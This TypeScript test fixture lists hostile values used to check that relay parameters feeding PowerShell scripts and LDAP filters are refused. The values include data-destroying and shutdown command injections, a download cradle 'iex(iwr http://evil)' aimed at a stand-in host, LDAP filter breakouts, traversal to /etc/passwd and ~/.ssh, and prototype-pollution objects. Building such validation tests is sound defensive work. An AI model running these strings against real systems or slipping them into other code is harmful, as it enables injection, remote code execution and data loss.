// Values an attacker (or a careless paste) might put in any relay parameter that ends up in a
// PowerShell script or an LDAP filter. Every value must be refused with a 400 before a backend
// runs. `legalIn` marks the few slots where a value is a legitimate input by design, and those
// pairs are left out: a VM name may contain spaces, dots and hyphens ("HV01 -Force" is a valid
// VM name; it travels as data inside base64 JSON, never as script text), and a mail address's
// local part may contain ' . - % (the directory backend puts it in an ldapts EqualityFilter,
// which escapes it). With those left out every slot still gets more than 100 values.

export type SlotKind = 'host' | 'vm' | 'user' | 'spn' | 'enum';

export interface HostileValue {
  label: string;
  value: unknown;
  legalIn?: SlotKind[];
}

const s = (label: string, value: string, legalIn?: SlotKind[]): HostileValue => ({ label, value, legalIn });

const quotes = [
  s('single quote', "'", ['user']),
  s('double quote', '"'),
  s('two single quotes', "''", ['user']),
  s('trailing quote', "HV01'", ['user']),
  s('trailing double quote', 'HV01"'),
  s('SQL-style tautology', "' OR '1'='1"),
  s('quote breakout into a command', '"; Remove-Item C:\\ -Recurse; "'),
  s('smart quotes', '\u2018HV01\u2019'),
  s('backtick', '`'),
  s('PowerShell escape newline', 'HV01`n'),
  s('backtick subexpression', '`$(whoami)`'),
];

const powershell = [
  s('empty subexpression', '$()'),
  s('subexpression', '$(Stop-Computer -Force)'),
  s('embedded subexpression', 'HV01$(calc)'),
  s('braced variable', '${env:PATH}'),
  s('environment variable', '$env:USERNAME'),
  s('array subexpression', '@(1,2)'),
  s('call operator', '& calc.exe'),
  s('pipeline', 'HV01 | Out-File x'),
  s('statement separator', 'HV01;Restart-Computer'),
  s('bare semicolon', ';'),
  s('trailing semicolon', 'HV01;'),
  s('and-chain', 'HV01 && whoami'),
  s('or-chain', 'HV01 || whoami'),
  s('parameter injection', '-ComputerName evil'),
  s('stop-parsing token', '--%', ['user']),
  s('switch injection', 'HV01 -Force', ['vm']),
  s('line comment', '#comment'),
  s('block comment', '<# block #>'),
  s('redirection out', 'HV01>out.txt'),
  s('redirection in', 'HV01<in'),
  s('static .NET call', "[System.IO.File]::Delete('x')"),
  s('download cradle', 'iex(iwr http://evil)'),
  s('script block', '{ Stop-Computer }'),
  s('cmd variable', 'HV01%TEMP%', ['user']),
  s('cmd escape', '^calc'),
  s('splatting', '@args'),
  s('hashtable', '@{a=1}'),
  s('type accelerator', '[scriptblock]::Create("x")'),
];

const controls = [
  s('newline', 'HV01\nHV02'),
  s('CRLF', 'HV01\r\n'),
  s('bare newline', '\n'),
  s('line separator', 'HV01\u2028'),
  s('tab', 'HV01\t'),
  s('vertical tab', 'HV01\u000b'),
  s('form feed', 'HV01\f'),
  s('escape sequence', 'HV01\u001b[31m'),
  s('NUL suffix', 'HV01\u0000'),
  s('bare NUL', '\u0000'),
  s('NUL truncation', 'HV01\u0000.evil.com'),
  s('DEL', 'HV01\u007f'),
  s('no-break space', 'HV01\u00a0'),
  s('leading space', ' HV01'),
];

const ldap = [
  s('wildcard', '*'),
  s('trailing wildcard', 'HV01*'),
  s('filter breakout', '*)(objectClass=*'),
  s('or injection', 'HV01)(|(cn=*))'),
  s('whole filter', '(cn=*)'),
  s('backslash', '\\'),
  s('escaped star', 'HV01\\2a'),
  s('escaped NUL', '\\00'),
  s('the classic', '*()\\'),
  s('and injection', 'HV01)(&'),
  s('pipe', '|'),
  s('ampersand', '&'),
  s('bang', '!'),
  s('equals', '='),
  s('trailing equals', 'HV01='),
  s('approx match', '~='),
  s('greater-or-equal', '>='),
  s('DN injection', 'cn=HV01,ou=x'),
  s('base DN suffix', ',DC=contoso,DC=com'),
  s('plus (multi-valued RDN)', 'HV01+cn=x'),
  s('angle brackets', '<HV01>'),
  s('leading hash (DN hex)', '#HV01'),
  s('escaped comma', 'HV01\\,x'),
  s('extensible match', 'cn:1.2.840.113556.1.4.803:=2'),
  s('GUID binding', '<GUID=00000000-0000-0000-0000-000000000000>'),
];

const lookAlikes = [
  s('Cyrillic H', '\u041dV01'),
  s('fullwidth letters', '\uff28\uff36\uff10\uff11'),
  s('Greek Eta', '\u0397V01'),
  s('zero-width space', 'HV01\u200b'),
  s('right-to-left override', '\u202eHV01'),
  s('combining accent', 'HV01\u0301'),
  s('fullwidth first letter', '\uff28V01'),
  s('dotless i', 'hv01\u0131'),
  s('fullwidth digit', 'HV\uff101'),
  s('double-struck H', '\u210dV01'),
  s('byte order mark', 'HV01\ufeff'),
  s('ideographic full stops', 'HV01\u3002contoso\u3002com'),
  s('fullwidth full stop', 'HV01\uff0ecom'),
  s('emoji', 'HV01\u{1f642}'),
  s('Cyrillic lowercase a', 'hv01.cont\u043eso.com'),
];

const longAndOdd = [
  s('254 characters', 'A'.repeat(254)),
  s('64-character label', `${'a'.repeat(64)}.com`, ['vm']),
  s('4000 characters', 'HV01'.repeat(1000)),
  s('101 characters', 'A'.repeat(101)),
  s('100 000 characters', 'x'.repeat(100_000)),
  s('empty', '', ['user']),
  s('only a space', ' '),
  s('dot', '.', ['user']),
  s('leading hyphen', '-HV01', ['user']),
  s('trailing hyphen label', 'HV01-.contoso.com', ['vm', 'user']),
  s('empty label', 'HV01..contoso.com', ['vm', 'user']),
  s('leading dot', '.HV01', ['user']),
];

const traversal = [
  s('unix traversal', '../../etc/passwd'),
  s('windows traversal', '..\\..\\Windows\\System32'),
  s('double dot', '..', ['user']),
  s('embedded traversal', 'HV01/../HV02'),
  s('UNC path', '\\\\evil\\share'),
  s('drive path', 'C:\\Windows'),
  s('file URL', 'file:///etc/passwd'),
  s('encoded traversal', '%2e%2e%2f', ['user']),
  s('encoded NUL', 'HV01%00', ['user']),
  s('home directory', '~/.ssh'),
];

const typeConfusion: HostileValue[] = [
  { label: 'number', value: 42 },
  { label: 'zero', value: 0 },
  { label: 'negative number', value: -1 },
  { label: 'true', value: true },
  { label: 'false', value: false },
  { label: 'null', value: null },
  { label: 'empty array', value: [] },
  { label: 'array of a name', value: ['HV01'] },
  { label: 'empty object', value: {} },
  { label: 'operator object', value: { $ne: null } },
  { label: 'toString object', value: { toString: 'HV01' } },
  { label: 'prototype pollution', value: JSON.parse('{"__proto__":{"polluted":true}}') as unknown },
];

export const HOSTILE_VALUES: HostileValue[] = [
  ...quotes,
  ...powershell,
  ...controls,
  ...ldap,
  ...lookAlikes,
  ...longAndOdd,
  ...traversal,
  ...typeConfusion,
];

/** How a value is placed in a slot: user ids and SPNs get a legitimate frame around it. */
export function frame(kind: SlotKind, value: unknown): unknown {
  if (typeof value !== 'string') return value;
  if (kind === 'user') return `alice${value}@contoso.com`;
  if (kind === 'spn') return `Microsoft Virtual System Migration Service/${value}`;
  return value;
}
